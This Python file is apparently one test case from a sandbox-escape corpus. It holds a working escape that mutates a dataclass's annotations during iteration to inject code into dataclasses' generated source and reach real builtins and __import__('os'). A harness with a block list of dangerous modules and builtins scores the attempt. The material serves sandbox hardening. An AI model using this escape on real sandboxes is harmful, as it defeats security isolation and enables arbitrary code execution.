# technique: the runtime checks a dataclass's field names when @dataclass is applied (the keys of the class's own __annotations__) and, since 5a55677, lets a Field's name be set only once; but dataclasses iterates that same annotations dict afterwards, calling getattr(cls, name) for each field: an enum.property there looks the name up in cls._member_map_ (a snippet __getitem__), which deletes a later key and inserts '<code>' in its place (same size: the dict iteration goes on and yields the new key); dataclasses makes a fresh Field for it and sets its name once, from None, and the name, typed InitVar so that it appears only in the two parameter lists, is pasted into the source dataclasses execs: 'a=EXPR,_return_type=None,**k):#' runs EXPR unchecked
# source: check-then-use window in dataclasses._process_class (169) + dict mutation during iteration without a size change + dataclasses code generation from field names (106/144)
# note: the validator refuses writing into __annotations__; the runtime layer alone does not
# ---- escape check: the same block in every snippet of the corpus ----------
# It reads no refused attribute and holds no dunder string constant itself,
# so that a refusal is always the technique's, never the checker's.
def dn(s):
    return '_' * 2 + s + '_' * 2


DANGER = frozenset((
    'os', 'posix', 'nt', 'sys', 'subprocess', '_posixsubprocess', 'builtins',
    'ctypes', '_ctypes', 'socket', '_socket', 'importlib', '_imp',
    '_frozen_importlib', '_frozen_importlib_external', 'gc', 'inspect', 'types',
    'io', '_io', 'codecs', '_codecs', 'warnings', '_warnings', 'copyreg',
    'posixpath', 'genericpath', 'marshal', 'pickle', '_pickle', 'runpy',
    'linecache', 'traceback', 'threading', '_thread', 'locale', 'shutil',
    'signal', '_signal', 'pty', 'platform', 'tokenize', 'zipimport', 'pkgutil',
    'site', 'sysconfig', 'tempfile', 'pathlib', 'select', 'mmap', 'fcntl',
    'resource', 'weakref', '_weakref', 'atexit', 'faulthandler', 'encodings',
    'asyncio', 'argparse', 'gettext', 'pdb', 'pydoc', 'code', 'codeop', 'dis',
    'json.tool', '__main__',
))
REAL = frozenset(('eval', 'exec', 'compile', 'open', 'getattr', 'setattr', 'delattr',
                  'globals', 'locals', 'vars', 'breakpoint', '_getframe', 'system',
                  'popen', 'fork', 'execv', 'get_referrers', dn('import')))


def what(o, depth=0):
    """What forbidden thing o is, or None."""
    try:
        t = type(o).__name__
        if t in ('frame', 'code'):
            return t + ' object'
        if t == 'module':
            n = o.__name__
            if n in DANGER or n.split('.')[0] in DANGER:
                return 'module ' + n
            return None
        if t == 'dict':
            if dn('import') in o and 'eval' in o and 'open' in o:
                try:
                    works = o['eval']('1+1') == 2
                except BaseException:
                    works = False
                return 'real builtins dict' + (' (eval works)' if works else '')
            if dn('builtins') in o:
                n = o['__name__'] if '__name__' in o else '?'
                inner = what(o[dn('builtins')], depth + 1) if depth < 3 else None
                return 'globals of ' + str(n) + (' -> ' + inner if inner else '')
            return None
        if t == 'builtin_function_or_method' and o.__name__ in REAL:
            n = o.__name__
            if n == 'eval':
                return 'real eval' + (' (works)' if o('1+1') == 2 else '')
            return 'real builtin ' + n
        if t in ('_Helper', 'Quitter', '_Printer'):
            return 'site builtin ' + t
    except BaseException:
        return None
    return None


def check(label, o):
    w = what(o)
    if w:
        print('ESCAPED', label + ':', w)
        return True
    print('BLOCKED', label + ': reached only a', type(o).__name__)
    return False


def attempt(label, fn):
    try:
        return check(label, fn())
    except BaseException as e:
        print('BLOCKED', label + ':', type(e).__name__, str(e)[:160])
        return False
# ---- end of the escape check ----------------------------------------------

import dataclasses, enum, json, typing

GOT = []
SWAP = [None]


class Members:
    # enum.property.__get__(None, cls) looks the name up in cls._member_map_
    def __getitem__(self, key):
        if SWAP[0] is not None:
            annotations, name = SWAP[0]
            SWAP[0] = None
            del annotations['later']  # same size: the iteration goes on with the new key
            annotations[name] = dataclasses.InitVar[int]
        raise KeyError(key)


def generated(expr):
    class K:
        _member_map_ = Members()
        hook: typing.ClassVar[int] = enum.property(lambda self: 0)
        later: int = 0

    GOT.clear()
    SWAP[0] = (K.__annotations__, 'a=GOT.append(' + expr + '),_return_type=None,**k):#')
    dataclasses.dataclass(K)
    return GOT[-1]

attempt('annotations key swapped while dataclasses iterates -> json.dumps.__globals__',
        lambda: generated('json.dumps.' + dn('globals')))
attempt("... __import__('os') from the real builtins",
        lambda: generated('json.dumps.' + dn('globals') + '[' + repr(dn('builtins')) + '][' +
                          repr(dn('import')) + "]('os')"))
